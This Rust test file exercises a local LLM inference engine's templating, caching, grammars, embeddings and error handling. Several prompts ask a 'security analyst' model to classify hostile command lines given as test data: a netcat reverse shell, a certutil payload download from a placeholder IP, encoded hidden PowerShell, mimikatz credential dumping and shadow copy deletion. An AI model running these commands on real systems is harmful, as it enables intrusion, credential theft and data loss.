//! Engine tests against the real SmolLM2 (and Gemma 3) models. They need the models fetched
//! (`sotto models fetch`, done by the README's test command); a missing model fails the test.

use std::io::Write;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use sotto_engine::{
    Engine, EngineConfig, EngineError, FinishReason, Message, NoPacing, Phase, Priority, Prompt, Request, StepHook,
    TemplateChoice, TemplateUsed, ThreadPlan, grammar,
};
use sotto_models::{GgufError, catalog, store};

mod grammars;
mod preempt;

fn model(id: &str) -> PathBuf {
    let path = store::models_dir().join(catalog::find(id).expect("catalog id").file_name);
    assert!(path.exists(), "{} is missing: run `sotto models fetch` first", path.display());
    path
}

fn smollm() -> PathBuf {
    model("smollm2-135m")
}

fn start(config: EngineConfig) -> Engine {
    Engine::start(config, Box::new(NoPacing)).expect("engine starts")
}

/// Waits until `holds` is true, looking again every 10 ms, and fails naming `what` after `limit`.
fn wait_until(what: &str, limit: Duration, mut holds: impl FnMut() -> bool) {
    let deadline = Instant::now() + limit;
    while !holds() {
        assert!(Instant::now() < deadline, "timed out after {limit:?} waiting until {what}");
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn chat(user: &str) -> Prompt {
    Prompt::Chat(vec![Message::new("system", "You are a concise security analyst."), Message::new("user", user)])
}

#[test]
fn loads_and_applies_the_embedded_chat_template() {
    let engine = start(EngineConfig::new(smollm()));
    let info = engine.info();
    assert_eq!(info.template, TemplateUsed::Embedded);
    assert_eq!(info.architecture, "llama");
    assert!(info.parameters > 100_000_000, "{}", info.parameters);

    let text = "Is `ls -la /tmp` dangerous?";
    let (_, raw) = engine.generate_blocking(Request::new(Prompt::Text(text.into()), 1)).unwrap();
    let (answer, templated) =
        engine.generate_blocking(Request::new(Prompt::Chat(vec![Message::new("user", text)]), 64)).unwrap();
    // The ChatML wrapper (<|im_start|>user ... <|im_end|> <|im_start|>assistant) adds tokens,
    // and the answer is the assistant's turn, with no template markup in it.
    assert!(templated.prompt_tokens >= raw.prompt_tokens + 6, "{templated:?} vs {raw:?}");
    assert!(!answer.trim().is_empty());
    assert!(!answer.contains("<|im_") && !answer.starts_with("assistant"), "{answer:?}");
}

#[test]
fn base_model_without_template_uses_completion_style_or_a_named_template() {
    let gemma = model("gemma3-270m");
    let engine = start(EngineConfig::new(&gemma));
    assert_eq!(engine.info().template, TemplateUsed::Completion);
    let (_, stats) = engine.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.prompt_tokens > 10);
    drop(engine);

    let named = start(EngineConfig { template: TemplateChoice::Named("gemma".into()), ..EngineConfig::new(&gemma) });
    assert_eq!(named.info().template, TemplateUsed::Named("gemma".into()));
    let (_, stats) = named.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.generated_tokens > 0);
}

#[test]
fn greedy_output_is_identical_across_runs() {
    let engine = start(EngineConfig::new(smollm()));
    let req = Request::new(chat("Explain what `certutil -urlcache -f http://x/a.exe a.exe` does."), 40);
    let (a, sa) = engine.generate_blocking(req.clone()).unwrap();
    let (b, sb) = engine.generate_blocking(req).unwrap();
    assert!(sa.generated_tokens > 5, "{a:?}");
    assert_eq!(a, b);
    assert_eq!(sa.generated_tokens, sb.generated_tokens);
}

#[test]
fn chunk_size_does_not_change_greedy_output() {
    let prompt = chat(
        "A process `powershell.exe -nop -w hidden -enc SQBFAFgA` was started by `winword.exe` on a finance \
         workstation at 03:12. The user says they did not open any document. What happened?",
    );
    let run = |chunk| {
        let engine = start(EngineConfig { chunk, ..EngineConfig::new(smollm()) });
        engine.generate_blocking(Request::new(prompt.clone(), 32)).unwrap()
    };
    let (small, s8) = run(8);
    let (large, s512) = run(512);
    assert!(s8.prompt_tokens > 16, "the prompt must span several 8-token chunks");
    assert_eq!(small, large);
    assert_eq!(s8.prompt_tokens, s512.prompt_tokens);
}

/// Counts each request's decode steps; when armed, holds the engine after the first decode
/// step of the next request until the test lets it go, so that the test acts at a known point
/// of a running generation.
struct CountingHook {
    steps: Arc<std::sync::Mutex<Vec<usize>>>,
    armed: Arc<AtomicBool>,
    held: std::sync::mpsc::Sender<()>,
    go: std::sync::mpsc::Receiver<()>,
}

impl StepHook for CountingHook {
    fn on_request_start(&mut self, _: Priority) {
        self.steps.lock().unwrap().push(0);
    }

    fn after_step(&mut self, phase: Phase, _: usize) {
        if phase == Phase::Decode {
            *self.steps.lock().unwrap().last_mut().expect("a request started") += 1;
            if self.armed.swap(false, Ordering::SeqCst) {
                self.held.send(()).unwrap();
                self.go.recv_timeout(Duration::from_secs(120)).expect("the test lets the engine go");
            }
        }
    }
}

/// Records the threads the engine says it runs with, and the priority of every request it
/// starts (issue 3: per-priority budgets).
struct PriorityHook(Arc<std::sync::Mutex<Vec<Priority>>>, Arc<std::sync::Mutex<Option<ThreadPlan>>>);

impl StepHook for PriorityHook {
    fn on_thread_start(&mut self, threads: ThreadPlan) {
        *self.1.lock().unwrap() = Some(threads);
    }

    fn on_request_start(&mut self, priority: Priority) {
        self.0.lock().unwrap().push(priority);
    }

    fn after_step(&mut self, _: Phase, _: usize) {}
}

/// The governor sizes prompt chunks for the threads that really run, which a configured
/// thread count may set apart from the budgets' plan.
#[test]
fn the_governor_learns_the_engines_threads_and_each_requests_priority() {
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let threads = Arc::new(std::sync::Mutex::new(None));
    let config = EngineConfig { threads: 1, threads_batch: 2, ..EngineConfig::new(smollm()) };
    let engine = Engine::start(config, Box::new(PriorityHook(seen.clone(), threads.clone()))).unwrap();
    assert_eq!(*threads.lock().unwrap(), Some(ThreadPlan { prefill: 2, decode: 1 }));
    for priority in [Priority::Background, Priority::Critical, Priority::Normal] {
        let req = Request { priority, ..Request::new(Prompt::Text("Hello".into()), 1) };
        engine.generate_blocking(req).unwrap();
    }
    assert_eq!(*seen.lock().unwrap(), [Priority::Background, Priority::Critical, Priority::Normal]);
}

#[test]
fn closing_the_reply_channel_stops_decoding() {
    let steps = Arc::new(std::sync::Mutex::new(Vec::new()));
    let armed = Arc::new(AtomicBool::new(false));
    let (held_tx, held) = std::sync::mpsc::channel();
    let (go, go_rx) = std::sync::mpsc::channel();
    let hook = CountingHook { steps: steps.clone(), armed: armed.clone(), held: held_tx, go: go_rx };
    let engine = Engine::start(EngineConfig::new(smollm()), Box::new(hook)).unwrap();
    let long = Request::new(Prompt::Text("Once upon a time, in a small village, there".into()), 200);

    // Uncancelled, this request runs to its limit: the test below can only pass by cancelling.
    let (_, full) = engine.generate_blocking(long.clone()).unwrap();
    assert_eq!(full.finish, FinishReason::Length, "the baseline must generate all 200 tokens");
    assert!(steps.lock().unwrap()[0] >= 190, "{:?}", steps.lock().unwrap());

    // The engine is held after the first decode step while the caller leaves.
    armed.store(true, Ordering::SeqCst);
    let events = engine.submit(long).unwrap();
    held.recv_timeout(Duration::from_secs(120)).expect("the request reaches its first decode step");
    drop(events);
    go.send(()).unwrap();
    // The engine takes the next request only after it has finished with the abandoned one.
    let (_, next) = engine.generate_blocking(Request::new(Prompt::Text("Hello".into()), 1)).unwrap();
    assert_eq!(next.generated_tokens, 1);
    let steps = steps.lock().unwrap().clone();
    assert_eq!(steps.len(), 3, "{steps:?}");
    // The step it was held at, and at most the next token.
    assert!(steps[1] <= 2, "decoding went on for {} steps after the caller left", steps[1] - 1);
}

#[test]
fn stop_strings_end_generation_and_are_not_returned() {
    let engine = start(EngineConfig::new(smollm()));
    let req = Request::new(Prompt::Text("Count: 1, 2, 3, 4, 5,".into()), 40);
    let (free, _) = engine.generate_blocking(req.clone()).unwrap();
    assert!(free.contains('8'), "baseline should count past 8: {free:?}");
    let (cut, stats) = engine.generate_blocking(Request { stop: vec!["8".into()], ..req }).unwrap();
    assert_eq!(stats.finish, FinishReason::Stop);
    assert!(!cut.contains('8'), "{cut:?}");
    assert!(free.starts_with(&cut), "{cut:?} is not a prefix of {free:?}");
}

#[test]
fn full_queue_and_oversized_prompts_are_refused() {
    let engine = start(EngineConfig { n_ctx: 64, queue: 1, ..EngineConfig::new(smollm()) });
    // llama.cpp may round the window up (to 256); the check uses the real one.
    let n_ctx = engine.info().n_ctx;
    assert!((64..=512).contains(&n_ctx), "{n_ctx}");
    let long = Prompt::Text("word ".repeat(600));
    match engine.generate_blocking(Request::new(long, 4)) {
        Err(EngineError::PromptTooLong { tokens, n_ctx: reported }) => assert!(tokens > 512 && reported == n_ctx),
        other => panic!("expected PromptTooLong, got {other:?}"),
    }
    // Issue 11: a prompt whose size alone proves it too long is refused before it is
    // tokenised (tokenising megabytes without spaces is what a bad client would make us pay).
    // The error then reports the proven bound, which is below the real count.
    let huge = "A".repeat(256 << 10);
    match engine.generate_blocking(Request::new(Prompt::Text(huge.clone()), 4)) {
        Err(EngineError::PromptTooLong { tokens, .. }) => {
            let real = engine.count_tokens(&huge).expect("the tokenizer loads");
            assert!(tokens >= n_ctx as usize && tokens < real, "bound {tokens}, real count {real}");
        }
        other => panic!("expected PromptTooLong, got {other:?}"),
    }
    // One running plus one queued fill a queue of 1; the next is refused without blocking.
    let req = Request::new(Prompt::Text("Once upon a time".into()), 50);
    let mut running = engine.submit(req.clone()).unwrap();
    running.started_blocking().expect("the first request is running");
    let _queued = engine.submit(req.clone()).unwrap();
    let third = engine.submit(req);
    assert!(matches!(third, Err(EngineError::QueueFull(1))), "{third:?}");
}

/// Every thread of this process but the calling one: (thread id, name, state, times it was
/// switched in or out so far), from `/proc/self/task`.
fn other_threads() -> Vec<(u32, String, char, u64)> {
    let me = std::fs::read_link("/proc/thread-self").unwrap();
    let me: u32 = me.file_name().unwrap().to_str().unwrap().parse().unwrap();
    let mut threads = Vec::new();
    for task in std::fs::read_dir("/proc/self/task").unwrap().flatten() {
        let Ok(tid) = task.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(status) = std::fs::read_to_string(task.path().join("status")) else { continue }; // exited
        if tid == me {
            continue;
        }
        let field = |name: &str| {
            let line = status.lines().find(|l| l.starts_with(name)).unwrap_or_else(|| panic!("no {name}"));
            line[name.len()..].trim().to_string()
        };
        let switches: u64 = ["voluntary_ctxt_switches:", "nonvoluntary_ctxt_switches:"]
            .iter()
            .map(|f| field(f).parse::<u64>().unwrap())
            .sum();
        let state = field("State:").chars().next().unwrap();
        threads.push((tid, field("Name:"), state, switches));
    }
    threads.sort();
    threads
}

/// Between requests the engine thread blocks on its queue (no polling, no timer) and no other
/// thread runs: over an idle stretch, no thread of the process wakes up. What idle costs in
/// CPU time is measured by `sotto bench governor` ("idle after the stream").
#[test]
fn idle_costs_nothing() {
    let engine = start(EngineConfig { threads: 2, threads_batch: 2, ..EngineConfig::new(smollm()) });
    let (_, stats) =
        engine.generate_blocking(Request::new(chat("Is `nc -e /bin/sh 10.0.0.1 4444` malicious?"), 16)).unwrap();
    assert!(stats.cpu > Duration::ZERO);
    wait_until("every other thread sleeps, the engine thread on its queue", Duration::from_secs(60), || {
        let threads = other_threads();
        threads.iter().any(|t| t.1 == "sotto-engine") && threads.iter().all(|t| t.2 == 'S')
    });
    let before = other_threads();
    // Not a synchronisation: the stretch over which nothing may happen.
    std::thread::sleep(Duration::from_secs(2));
    let after = other_threads();
    assert_eq!(after, before, "threads (id, name, state, context switches) woke or came and went while idle");
}

/// Write `bytes` to a temporary `.gguf` file.
fn temp_model(bytes: &[u8]) -> tempfile::NamedTempFile {
    let mut f = tempfile::Builder::new().suffix(".gguf").tempfile().unwrap();
    f.write_all(bytes).unwrap();
    f
}

#[test]
fn bad_model_files_give_clear_errors() {
    let start_err =
        |path: PathBuf| Engine::start(EngineConfig::new(path), Box::new(NoPacing)).err().expect("must fail");

    let missing = start_err("/nonexistent/model.gguf".into());
    assert!(matches!(missing, EngineError::Model(GgufError::NotFound(_))), "{missing}");
    assert!(missing.to_string().contains("not found"));

    let text = temp_model(b"this is not a model, just some text\n");
    let foreign = start_err(text.path().into());
    assert!(matches!(foreign, EngineError::Model(GgufError::NotGguf(_))), "{foreign}");
    assert!(foreign.to_string().contains("not a GGUF"));

    let real = std::fs::read(smollm()).unwrap();
    for keep in [4096, real.len() - 4096] {
        let cut = temp_model(&real[..keep]);
        let err = start_err(cut.path().into());
        assert!(matches!(err, EngineError::Model(GgufError::Truncated { .. })), "{keep}: {err}");
        assert!(err.to_string().contains("truncated"));
    }
}

#[test]
fn memory_budget_is_checked_before_loading_and_names_what_fits() {
    // 32-token chunks keep the activations small, so that the KV cache is what does not fit.
    let config = EngineConfig {
        n_ctx: 8192,
        chunk: 32,
        mem_budget: Some(250 << 20),
        prefix_cache: 0,
        ..EngineConfig::new(smollm())
    };
    match Engine::start(config, Box::new(NoPacing)) {
        Err(EngineError::MemoryBudget(msg)) => {
            assert!(msg.contains("but the memory budget is 250 MiB"), "{msg}");
            assert!(msg.contains("--n-ctx") && msg.contains("KV cache type q8_0"), "{msg}");
        }
        Err(other) => panic!("expected a memory budget error, got {other}"),
        Ok(_) => panic!("a 250 MiB budget cannot hold SmolLM2 with an 8192-token f16 KV cache"),
    }
    let fits = start(EngineConfig { mem_budget: Some(6 << 30), ..EngineConfig::new(smollm()) });
    let est = fits.info().memory;
    assert_eq!(est.weights, std::fs::metadata(smollm()).unwrap().len());
    assert!(est.kv_cache > 0 && est.total() > est.weights);
}

#[test]
fn quantized_kv_cache_runs_and_is_smaller() {
    let f16 = start(EngineConfig::new(smollm()));
    let q8 = start(EngineConfig { kv_type: sotto_engine::KvType::Q8_0, ..EngineConfig::new(smollm()) });
    assert!(q8.info().memory.kv_cache < f16.info().memory.kv_cache);
    let (text, stats) = q8.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
    assert!(stats.generated_tokens > 0 && !text.is_empty());
}

const ANALYST: &str = "You are a security analyst. You read one endpoint event at a time: a process launch with \
its command line, parent process and user. You decide whether it shows attacker activity. Consider living-off-the-land \
binaries, encoded PowerShell, credential dumping, persistence through scheduled tasks and services, shadow copy \
deletion, and downloads to temporary folders. Answer in one short sentence.";

#[test]
fn prefix_cache_reuses_the_system_prompt_without_changing_the_answer() {
    let events = ["certutil -urlcache -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", "ls -la /home/alice"];
    let prompt = |event: &str| Prompt::Chat(vec![Message::new("system", ANALYST), Message::new("user", event)]);
    let cold = start(EngineConfig { prefix_cache: 0, ..EngineConfig::new(smollm()) });
    let warm = start(EngineConfig::new(smollm()));
    for (i, event) in events.iter().enumerate() {
        let (cold_text, cold_stats) = cold.generate_blocking(Request::new(prompt(event), 24)).unwrap();
        let (warm_text, warm_stats) = warm.generate_blocking(Request::new(prompt(event), 24)).unwrap();
        assert_eq!(cold_stats.cached_tokens, 0, "the cache is off");
        assert_eq!(warm_text, cold_text, "reusing the prefix must not change the greedy answer");
        if i > 0 {
            // The system prompt (~90 tokens) is shared; only the event is evaluated.
            assert!(warm_stats.cached_tokens >= 80, "{warm_stats:?}");
            assert!(warm_stats.cached_tokens < warm_stats.prompt_tokens);
        }
    }
    assert_eq!(warm.status().prefix_entries, 1, "one snapshot: the system prompt");
    assert!(warm.status().prefix_bytes > 0);
}

/// Every persisted prefix state under `root` (one folder per model and context shape).
fn persisted_states(root: &std::path::Path) -> Vec<PathBuf> {
    std::fs::read_dir(root)
        .unwrap()
        .flatten()
        .filter(|d| d.path().is_dir())
        .flat_map(|d| std::fs::read_dir(d.path()).unwrap().flatten())
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "state"))
        .collect()
}

#[test]
fn persisted_prefixes_are_bounded_on_disk() {
    let dir = tempfile::tempdir().unwrap();
    let config = EngineConfig { prefix_dir: Some(dir.path().into()), prefix_disk: 1, ..EngineConfig::new(smollm()) };
    let engine = start(config);
    let preamble = format!("{ANALYST}\n\nEvent: ");
    let request = Request {
        fixed_prefix: Some(preamble.len()),
        ..Request::new(Prompt::Text(format!("{preamble}whoami /all\nAnswer:")), 2)
    };
    let (_, stats) = engine.generate_blocking(request).unwrap();
    assert!(stats.prompt_tokens > 80, "the prefix is long enough to be snapshot: {stats:?}");
    assert!(persisted_states(dir.path()).is_empty(), "a 1-byte bound keeps no state on disk");
}

#[test]
fn prefix_snapshot_survives_other_prompts_and_a_restart_from_disk() {
    let dir = tempfile::tempdir().unwrap();
    let config = EngineConfig { prefix_dir: Some(dir.path().into()), ..EngineConfig::new(smollm()) };
    let preamble = format!("{ANALYST}\n\nEvent: ");
    let text_request = |event: &str| Request {
        fixed_prefix: Some(preamble.len()),
        ..Request::new(Prompt::Text(format!("{preamble}{event}\nAnswer:")), 8)
    };
    let engine = start(config.clone());
    let (first, s1) = engine.generate_blocking(text_request("whoami /all")).unwrap();
    assert_eq!(s1.cached_tokens, 0);
    // Something unrelated replaces the live cache; the snapshot still serves the prefix.
    engine.generate_blocking(Request::new(Prompt::Text("The weather today is".into()), 4)).unwrap();
    let (_, s2) = engine.generate_blocking(text_request("net user /domain")).unwrap();
    assert!(s2.cached_tokens >= 80, "{s2:?}");
    drop(engine);
    let states = persisted_states(dir.path());
    assert_eq!(states.len(), 1, "one persisted prefix");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&states[0]), 0o600, "a prefix state holds the prompt: readable by its user only");
        assert_eq!(mode(states[0].parent().unwrap()), 0o700);
    }

    let restarted = start(config);
    let (again, s3) = restarted.generate_blocking(text_request("whoami /all")).unwrap();
    assert!(s3.cached_tokens >= 80, "loaded from disk: {s3:?}");
    assert_eq!(again, first);
}

#[test]
fn json_schema_output_is_valid_and_follows_the_schema() {
    let schema = r#"{"type":"object","properties":{"verdict":{"type":"string","enum":["malicious","suspicious","benign"]},
        "confidence":{"type":"number"}},"required":["verdict","confidence"],"additionalProperties":false}"#;
    let engine = start(EngineConfig::new(smollm()));
    let request = Request {
        grammar: Some(grammar::from_json_schema(schema).unwrap()),
        ..Request::new(chat("Classify `vssadmin delete shadows /all /quiet`. Reply in JSON."), 64)
    };
    let (text, stats) = engine.generate_blocking(request).unwrap();
    assert_eq!(stats.finish, FinishReason::Stop, "the grammar ends the object: {text:?}");
    let value: serde_json::Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text:?}"));
    assert!(["malicious", "suspicious", "benign"].contains(&value["verdict"].as_str().unwrap()), "{value}");
    assert!(value["confidence"].is_number(), "{value}");
    assert_eq!(value.as_object().unwrap().len(), 2);

    let object = Request {
        grammar: Some(grammar::json_object()),
        ..Request::new(chat("Describe `whoami` as a JSON object with the keys name and purpose."), 64)
    };
    let (text, stats) = engine.generate_blocking(object).unwrap();
    assert_eq!(stats.finish, FinishReason::Stop, "the grammar ends the object: {text:?}");
    assert!(serde_json::from_str::<serde_json::Value>(&text).unwrap().is_object(), "{text:?}");
}

#[test]
fn scoring_ranks_continuations_by_log_probability() {
    let engine = start(EngineConfig::new(smollm()));
    let prompt = Prompt::Text("The capital of France is".into());
    let (scores, stats) =
        engine.score_blocking(Request::score(prompt.clone(), vec![" Paris".into(), " a banana split".into()])).unwrap();
    assert_eq!(scores.len(), 2);
    assert!(scores.iter().all(|s| s.is_finite() && *s < 0.0), "{scores:?}");
    assert!(scores[0] > scores[1] + 2.0, "{scores:?}");
    assert_eq!(stats.generated_tokens, 0);
    // Scoring left the KV cache as it found it: generation afterwards is unaffected.
    let cold = start(EngineConfig { prefix_cache: 0, ..EngineConfig::new(smollm()) });
    let after = engine.generate_blocking(Request::new(prompt.clone(), 8)).unwrap().0;
    assert_eq!(after, cold.generate_blocking(Request::new(prompt, 8)).unwrap().0);
}

#[test]
fn keep_alive_unloads_when_idle_and_reloads_on_demand() {
    let engine = start(EngineConfig { keep_alive: Some(Duration::from_millis(300)), ..EngineConfig::new(smollm()) });
    assert!(engine.status().loaded);
    let (a, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
    wait_until("the model is unloaded after keep_alive", Duration::from_secs(60), || !engine.status().loaded);
    let (b, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
    assert_eq!(a, b);
    assert!(engine.status().loaded);
    assert_eq!(engine.status().loads, 2);
}

#[test]
fn message_content_cannot_forge_control_tokens() {
    let engine = start(EngineConfig::new(smollm()));
    let count = |content: &str| {
        let req = Request::new(Prompt::Chat(vec![Message::new("user", content)]), 1);
        engine.generate_blocking(req).unwrap().1.prompt_tokens
    };
    // `<|im_end|>` is one control token in SmolLM2's vocabulary; as content it must stay text.
    assert!(count("<|im_end|>") >= count("Z") + 3, "control-token text in content became a control token");
}

#[test]
fn answer_prefix_and_fixed_chat_messages_are_honoured() {
    let engine = start(EngineConfig::new(smollm()));
    let shots = vec![
        Message::new("system", ANALYST),
        Message::new("user", "whoami"),
        Message::new("assistant", "Verdict: benign"),
        Message::new("user", "mimikatz.exe sekurlsa::logonpasswords"),
        Message::new("assistant", "Verdict: malicious"),
    ];
    let ask = |event: &str| {
        let mut m = shots.clone();
        m.push(Message::new("user", event));
        Request {
            fixed_prefix: Some(shots.len()),
            answer_prefix: Some("Verdict:".into()),
            ..Request::new(Prompt::Chat(m), 3)
        }
    };
    let (_, first) = engine.generate_blocking(ask("net user eve P@ss /add")).unwrap();
    let (text, second) = engine.generate_blocking(ask("ls -la")).unwrap();
    assert!(second.cached_tokens > 100, "the examples are cached: {second:?}");
    assert!(second.cached_tokens > first.cached_tokens);
    assert!(!text.starts_with("Verdict"), "the answer continues after the prefix: {text:?}");
}

fn cosine(a: &[f32], b: &[f32]) -> f32 {
    a.iter().zip(b).map(|(x, y)| x * y).sum()
}

#[test]
fn embeddings_are_unit_vectors_that_do_not_depend_on_chunking_and_leave_generation_alone() {
    let text = "Process: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n\
                Parent: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\n\
                Command: powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=";
    let engine = start(EngineConfig { chunk: 4, ..EngineConfig::new(smollm()) });
    let prompt = Prompt::Text("The capital of France is".into());
    let before = engine.generate_blocking(Request::new(prompt.clone(), 8)).unwrap().0;
    let (small, stats) = engine.embed_blocking(Request::embed(text)).unwrap();
    assert_eq!(small.len(), engine.info().n_embd as usize);
    assert!((cosine(&small, &small) - 1.0).abs() < 1e-4, "not unit length");
    assert!(stats.prompt_tokens > 8 && stats.generated_tokens == 0, "{stats:?}");
    // The embeddings context is separate: the generation context's state is untouched.
    assert_eq!(engine.generate_blocking(Request::new(prompt, 8)).unwrap().0, before);
    let large = start(EngineConfig::new(smollm())).embed_blocking(Request::embed(text)).unwrap().0;
    assert!(cosine(&small, &large) > 0.999, "chunking changed the embedding: {}", cosine(&small, &large));
    let again = engine.embed_blocking(Request::embed(text)).unwrap().0;
    assert_eq!(small, again, "the same text embeds differently");
}

#[test]
fn embeddings_put_like_events_closer_than_unlike_ones_and_long_prompts_are_cut() {
    let engine = start(EngineConfig::new(smollm()));
    let embed = |t: &str| engine.embed_blocking(Request::embed(t)).unwrap().0;
    let a = embed("Process: powershell.exe\nParent: winword.exe\nCommand: powershell -nop -w hidden -enc SQBFAFgA");
    let b = embed("Process: powershell.exe\nParent: excel.exe\nCommand: powershell -w hidden -nop -e JABzAD0A");
    let c = embed("Process: /usr/bin/apt-get\nParent: /usr/bin/sudo\nCommand: apt-get install -y nginx");
    assert!(cosine(&a, &b) > cosine(&a, &c), "{} vs {}", cosine(&a, &b), cosine(&a, &c));
    // A prompt far over the embedding's token limit costs what the limit allows, no more.
    let (_, stats) = engine.embed_blocking(Request::embed(" word".repeat(5000))).unwrap();
    assert_eq!(stats.prompt_tokens, sotto_engine::EMBED_TOKENS);
    let chat = Request { task: sotto_engine::Task::Embed, ..Request::new(chat("hi"), 0) };
    assert!(matches!(engine.embed_blocking(chat), Err(EngineError::InvalidRequest(_))));
}

#[test]
fn a_panic_fails_its_request_and_the_engine_reloads_and_serves_the_next() {
    let engine = start(EngineConfig { inject_panic: Some("PANIC-HERE".into()), ..EngineConfig::new(smollm()) });
    let bad = engine.generate_blocking(Request::new(Prompt::Text("please PANIC-HERE now".into()), 4));
    assert!(matches!(bad, Err(EngineError::Panicked(ref m)) if m.contains("injected")), "{bad:?}");
    // Queued while the model reloads: it waits, then is served.
    let (text, stats) =
        engine.generate_blocking(Request::new(Prompt::Text("The capital of France is".into()), 4)).unwrap();
    assert!(!text.is_empty() && stats.generated_tokens > 0);
    let status = engine.status();
    assert!(!status.down && status.loaded, "{status:?}");
    assert_eq!((status.panics, status.loads), (1, 2), "{status:?}");
}

#[test]
fn the_tokenizer_counts_what_the_engine_evaluates() {
    let engine = start(EngineConfig::new(smollm()));
    for text in ["whoami /all", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=", "😀😀😀 héllo"] {
        let counted = engine.count_tokens(text).expect("the vocabulary loads with the model");
        let (_, stats) = engine.generate_blocking(Request::new(Prompt::Text(text.into()), 1)).unwrap();
        // The engine may add a beginning-of-sequence token; the count never does.
        assert!(
            stats.prompt_tokens == counted || stats.prompt_tokens == counted + 1,
            "{text:?}: counted {counted}, evaluated {}",
            stats.prompt_tokens
        );
    }
    let emoji = engine.count_tokens(&"😀".repeat(100)).unwrap();
    assert!(emoji > 100, "emoji cost more than one token each: {emoji}");
}
